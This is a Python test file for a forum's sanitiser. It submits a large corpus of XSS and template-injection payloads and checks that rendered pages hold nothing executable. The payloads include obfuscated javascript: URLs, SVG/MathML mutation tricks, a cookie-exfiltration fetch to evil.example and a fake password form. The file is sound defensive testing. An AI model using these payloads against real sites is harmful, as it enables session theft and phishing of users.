"""A corpus of XSS payloads (our own; tests/house/test_text.py has another 40) posted as forum
threads and replies through the HTTP routes: the pages that show them, parsed as a browser
would, carry nothing executable. The same corpus goes straight through
m100hub.text.render_markdown.

What must hold, on every page: no inline script (only the hub's own /static/ files), no
on* attribute, no style attribute, no iframe/object/embed/svg/math/frame/applet/base, every
URL attribute http(s), mailto or relative (after the clean-up a browser does: entities
decoded, tab/newline removed, leading control characters and spaces dropped). Inside what
people wrote (the post bodies, the title): only the allow-listed tags and attributes, no
form or input, and balanced markup that cannot close the element around it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from m100hub.forums.models import Post, Thread
from m100hub.text import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, render_markdown
from tests.support import factories
from tests.support.forum_factories import count
from tests.support.payloads import PAYLOADS as TEXT_PAYLOADS

CLASSIC = [
    "<script>alert(document.cookie)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script type=\"text/javascript\">fetch('//evil.example?c='+document.cookie)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "<img src=1 onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    "<body background=\"javascript:alert(1)\">",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<a href=\"#\" onmouseover=\"alert(1)\">hover</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"javascript:alert(1)\">x</td>",
    "<applet code=\"javascript:alert(1)\"></applet>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<p title=\"x\" onclick=\"alert(1)\" style=\"color:red\">para</p>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%\">cover</a>",
    "<h2 onmouseenter=alert(1)>titlu</h2>",
    "<table><tr><td onclick=alert(1) align=left>x</td></tr></table>",
    "<ol start=\"1\" onclick=alert(1)><li>x</li></ol>",
]

ENCODED = [
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#x4A;AVASCRIPT:alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "[x](java\u200bscript:alert(1))",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116"
    "&#40&#49&#41\">x</a>",
]

SVG_MATHML = [
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<script>alert(1)</script></svg>#x\"></use></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img "
    "onerror=alert(1) src=1>\"></textarea></mtext></svg></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction>"
    "</math>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)"
    "</html:script>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><caption><svg><style></caption><img src=x onerror=alert(1)>",
]

MARKDOWN_TRICKS = [
    "[click](javascript:alert(1) \"title\")",
    "[click](javascript:alert`1`)",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)> \"t\")",
    "![img](x\" onerror=\"alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert(1) \"x\")",
    "[![img](https://ok.example/a.png)](javascript:alert(1))",
    "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "[x](https://ok.example\" onclick=\"alert(1))",
    "[x](#\" onclick=\"alert(1))",
    "[a](https://ok.example)<img src=x onerror=alert(1)>",
    "[x](vbscript:msgbox(\"x\"))",
    "[x](VBSCRIPT:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](livescript:alert(1))",
    "[x](mocha:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example/%0a%0djavascript:alert(1))",
    "**[bold](javascript:alert(1))**",
    "> [quoted](javascript:alert(1))",
    "- [list](javascript:alert(1))\n- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| [t](javascript:alert(1)) <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```\n[x](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>` and <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>\n\n## [h](javascript:alert(1))",
    "[x](https://ok.example)\n[y](javascript:alert(1))\n[z](mailto:a@b.example)",
    "[x](\\javascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](javascript://comment%0Aalert(1))",
]

REFERENCE_AND_AUTOLINKS = [
    "[x][1]\n\n[1]: javascript:alert(1) \"title\"",
    "[x][evil]\n\n[evil]: <javascript:alert(1)> \"t\"",
    "![i][img]\n\n[img]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4=",
    "[x][y]\n\n[y]: https://ok.example \"t\\\" onclick=\\\"alert(1)\"",
    "[x][Z]\n\n[z]: JaVaScRiPt&colon;alert(1)",
    "[x][v]\n\n[v]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<vbscript:msgbox(1)>",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "<mailto:x@example.com?body=<script>alert(1)</script>>",
    "www.example.com/<script>alert(1)</script>",
    "javascript:alert(1)",
    "http://a.example/?<svg/onload=alert(1)>",
    "https://ok.example/?q=\"><script>alert(1)</script>",
]

WHITESPACE_AND_CONTROLS = [
    "[x](\tjavascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "<a href=\"java&#13;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "[x](\x01javascript:alert(1))",
    "[x](\x1fjavascript:alert(1))",
    "<a href=\"\x0bjavascript:alert(1)\">x</a>",
    "[x](<\x08javascript:alert(1)>)",
    "[x](data\t:text/html,<script>alert(1)</script>)",
    "[x](  vbscript:msgbox(1))",
    "\u00a0[x](javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](&#0;javascript:alert(1))",
    "[x](<&#x09;javascript:alert(1)>)",
]

QUOTES_AND_BREAKOUTS = [
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>",
    "[x](https://ok.example/\"'><script>alert(1)</script>)",
    "<a title=\"x\"><a href=\"javascript:alert(1)\">\"></a>",
    "<a href='x' title='\"><script>alert(1)</script>'>y</a>",
    "\"><a href=javascript:alert(1)>x</a>",
    "</textarea><script>alert(1)</script>",
    "</div></article></li></ol><script>alert(1)</script>",
    "</p><iframe src=javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</h1><form action=https://evil.example><input name=password></form>",
    "@persoana1\"><script>alert(1)</script>",
    "[@persoana1](javascript:alert(1))",
]

TEMPLATE_LIKE = [
    "{{ 7*7 }}",
    "{{ config.SECRET_KEY }}",
    "{% for x in range(3) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.application.__globals__ }}",
    "[x]({{ url_for('static') }})",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    "{{#with \"s\" as |string|}}{{string.sub \"constructor\"}}{{/with}}",
]

CORPUS = (CLASSIC + ENCODED + SVG_MATHML + MARKDOWN_TRICKS + REFERENCE_AND_AUTOLINKS
          + WHITESPACE_AND_CONTROLS + QUOTES_AND_BREAKOUTS + TEMPLATE_LIKE)

SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "xlink:href",
                  "background", "cite", "srcset", "srcdoc", "ping", "codebase", "to"}
NEVER = {"iframe", "object", "embed", "svg", "math", "frame", "frameset", "applet", "base",
         "isindex", "template", "noscript", "xmp", "plaintext", "use", "animate", "set",
         "foreignobject", "marquee", "keygen", "video", "audio", "img"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr"}
#: what a link to a mentioned person carries beside the allow-list
EXTRA_ATTRIBUTES = {"a": {"class"}}


def scheme(url: str) -> str:
    """The scheme a browser would use for this (already entity-decoded) attribute value."""
    url = re.sub(r"[\t\n\r]", "", url or "")
    url = url.lstrip("".join(chr(c) for c in range(0x21))).rstrip()
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else ""


class Page(HTMLParser):
    """Every element as a browser's tokenizer sees it, and which of them sit inside text
    that people wrote (the post bodies, ``class="prose"``, and the title ``<h1>``)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict, bool]] = []
        self.stack: list[tuple[str, bool]] = []
        self.script_text: list[str] = []
        self.unbalanced: list[str] = []

    @property
    def inside_user_text(self) -> bool:
        return bool(self.stack) and self.stack[-1][1]

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        user = self.inside_user_text
        self.elements.append((tag, attributes, user))
        if tag in VOID:
            return
        opens_user_text = tag == "h1" or "prose" in (attributes.get("class") or "").split()
        self.stack.append((tag, user or opens_user_text))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs), self.inside_user_text))

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not any(open_tag == tag for open_tag, _ in self.stack):
            self.unbalanced.append(tag)
            return
        while self.stack:
            open_tag, _ = self.stack.pop()
            if open_tag == tag:
                break
            self.unbalanced.append(open_tag)

    def handle_data(self, data):
        if self.stack and self.stack[-1][0] == "script" and data.strip():
            self.script_text.append(data)


def hub_made(tag: str, attrs: dict) -> bool:
    """The hub's own pictures outside what people wrote: the logo and uploaded images
    (img from /static/ or /media/), icons and initials avatars (svg of the sprite's classes),
    the sprite's symbols (use of /static/img/icons.*.svg)."""
    if tag == "img":
        return (attrs.get("src") or "").startswith(("/static/", "/media/"))
    if tag == "svg":
        return set((attrs.get("class") or "").split()) & {"icon", "avatar"} != set()
    if tag == "use":
        return (attrs.get("href") or "").startswith("/static/img/icons.")
    return False


def page_problems(html: str) -> list[str]:
    parser = Page()
    parser.feed(html)
    parser.close()
    found = []
    for tag, attrs, user in parser.elements:
        if tag in NEVER and (user or not hub_made(tag, attrs)):
            found.append(f"<{tag}>")
        if tag == "script" and not (attrs.get("src") or "").startswith("/static/"):
            found.append(f"script {attrs}")
        if tag == "meta" and "http-equiv" in attrs:
            found.append(f"meta {attrs}")
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                found.append(f"{tag} {name}={value!r}")
            if name in URL_ATTRIBUTES and scheme(value or "") not in SAFE_SCHEMES:
                found.append(f"{tag} {name}={value!r}")
        if user:
            if tag not in ALLOWED_TAGS:
                found.append(f"<{tag}> inside what people wrote")
            allowed = set(ALLOWED_ATTRIBUTES.get(tag, ())) | EXTRA_ATTRIBUTES.get(tag, set())
            for name in attrs:
                if name not in allowed:
                    found.append(f"<{tag} {name}> inside what people wrote")
            if tag == "a" and "href" in attrs and attrs.get("class") != "mention":
                if attrs.get("rel") != LINK_REL:
                    found.append(f"link without rel: {attrs}")
    if parser.script_text:
        found.append(f"inline script: {parser.script_text}")
    return found


def fragment_problems(html: str) -> list[str]:
    """Stored or rendered user HTML: the page rules, all of it counted as user text, and
    balanced (it cannot close the element the page puts around it)."""
    wrapped = f'<div class="prose">{html}</div>'
    found = page_problems(wrapped)
    parser = Page()
    parser.feed(wrapped)
    parser.close()
    if parser.unbalanced or parser.stack:
        found.append(f"unbalanced: {parser.unbalanced} open: {parser.stack}")
    return found


# --- the corpus itself -----------------------------------------------------------------------


def test_the_corpus_is_large_and_our_own():
    assert len(CORPUS) >= 100, len(CORPUS)
    assert len(set(CORPUS)) == len(CORPUS), "duplicates in the corpus"
    assert not set(CORPUS) & set(TEXT_PAYLOADS), "already in tests/support/payloads.py"


def test_the_checkers_catch_what_they_must():
    assert page_problems("<script>alert(1)</script>")
    assert page_problems('<script src="https://evil.example/x.js"></script>')
    assert not page_problems('<script src="/static/js/app.js" defer></script>')
    assert page_problems('<a href="java\tscript:alert(1)">x</a>')
    assert page_problems('<a href="&#x01;javascript:alert(1)">x</a>')
    assert page_problems('<a href=" JavaScript:alert(1)">x</a>')
    assert page_problems('<p onclick="x">y</p>') and page_problems('<p style="x">y</p>')
    assert page_problems("<svg></svg>") and page_problems("<math></math>")
    assert page_problems('<iframe src="https://ok.example"></iframe>')
    assert not page_problems('<form action="/x"><input name="y"></form>')
    assert page_problems('<div class="prose"><form action="/x"><input name="y"></form></div>')
    assert page_problems('<div class="prose"><a href="https://x.example">x</a></div>')
    assert not page_problems(
        f'<div class="prose"><a href="https://x.example" rel="{LINK_REL}">x</a></div>')
    assert fragment_problems("</div><p>x</p>")
    assert not fragment_problems("<p><strong>x</strong></p><hr><br>")
    assert scheme("  \x01jav\tascript:alert(1)") == "javascript"
    assert scheme("/relative:path") == "" and scheme("https://ok.example") == "https"


# --- render_markdown, directly --------------------------------------------------------------


@pytest.mark.parametrize("payload", CORPUS)
def test_render_markdown_leaves_nothing_executable(payload):
    html = render_markdown(payload)
    assert fragment_problems(html) == [], html


@pytest.mark.parametrize("payload", CORPUS)
def test_render_markdown_is_stable(payload):
    """Rendering its own output's text again adds nothing executable either (no mutation
    through a second pass, as when a post is quoted)."""
    quoted = "\n".join(f"> {line}" for line in payload.splitlines()) + "\n\n" + payload
    assert fragment_problems(render_markdown(quoted)) == []


# --- through the HTTP routes ----------------------------------------------------------------


def title_for(payload: str) -> str:
    title = " ".join(payload.split())[:160].strip()
    return title if len(title) >= 3 else f"XSS {title}"


@pytest.fixture
def author(client, db, login_as):
    return login_as("citizen", locale="en", handle="persoana1x")


@pytest.mark.parametrize("payload", CORPUS)
def test_posted_payload_is_harmless_on_every_page(client, db, author, payload):
    title = title_for(payload)
    response = client.post("/forums/c/general/new",
                           data={"title": title, "body": payload, "city_id": "0", "tags": ""})
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    thread = db.session.scalar(select(Thread).where(Thread.author_id == author.id))
    reply = client.post(f"/forums/t/{thread.id}/reply", data={"body": payload})
    assert reply.status_code == 303
    posts = list(db.session.scalars(select(Post).where(Post.thread_id == thread.id)))
    assert len(posts) == 2
    for post in posts:
        assert fragment_problems(post.body_html) == [], post.body_html

    pages = {
        "thread (author)": client.get(f"/forums/t/{thread.id}"),
        "quote": client.get(f"/forums/t/{thread.id}?quote={posts[1].id}"),
        "edit": client.get(f"/forums/p/{posts[0].id}/edit"),
        "category": client.get("/forums/c/general"),
        "index": client.get("/forums"),
        "search": client.get("/forums/search", query_string={"q": payload[:200]}),
        "search a word": client.get("/forums/search",
                                    query_string={"q": re.sub(r"\W+", " ", payload)[:40]}),
    }
    anonymous = client.application.test_client()
    pages["thread (anonymous)"] = anonymous.get(f"/forums/t/{thread.id}")
    for name, response in pages.items():
        assert response.status_code == 200, name
        html = response.get_data(as_text=True)
        assert page_problems(html) == [], (name, payload)
    # The title is text everywhere: the first heading of the thread page has no element.
    html = pages["thread (anonymous)"].get_data(as_text=True)
    heading = html[html.index("<h1>") + 4:html.index("</h1>")]
    assert "<" not in heading, heading


@pytest.mark.parametrize("payload", ["{{ 7*7 }}", "{{ config.SECRET_KEY }}",
                                     "{% for x in range(3) %}x{% endfor %}"])
def test_template_like_text_is_shown_literally(client, db, author, payload):
    client.post("/forums/c/general/new",
                data={"title": f"Șablon {payload}", "body": payload, "city_id": "0"})
    thread = db.session.scalar(select(Thread).where(Thread.author_id == author.id))
    html = client.get(f"/forums/t/{thread.id}").get_data(as_text=True)
    assert payload in html  # shown as typed, not evaluated
    assert client.application.config["SECRET_KEY"] not in html


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                                     "Ana <svg onload=alert(1)>"])
def test_display_names_are_text(client, db, login_as, payload):
    """People's names are shown beside their posts; they are escaped, not rendered."""
    person = factories.user(name=payload, handle="nume.ciudat", locale="en")
    login_as("citizen", user=person)
    client.post("/forums/c/general/new",
                data={"title": "Despre nume", "body": "Salut @nume.ciudat", "city_id": "0"})
    thread = db.session.scalar(select(Thread).where(Thread.author_id == person.id))
    ff_post = db.session.scalar(select(Post).where(Post.thread_id == thread.id))
    for url in (f"/forums/t/{thread.id}", "/forums/c/general", "/forums",
                f"/forums/t/{thread.id}?quote={ff_post.id}", "/forums/search?q=salut"):
        html = client.get(url).get_data(as_text=True)
        assert page_problems(html) == [], url


def test_nul_bytes_are_refused_and_nothing_written(client, db, author):
    before = count(Post)
    for payload in ("[x](java\x00script:alert(1))", "<scr\x00ipt>alert(1)</script>"):
        response = client.post("/forums/c/general/new",
                               data={"title": "Titlu NUL", "body": payload, "city_id": "0"})
        assert response.status_code == 400
    assert count(Post) == before
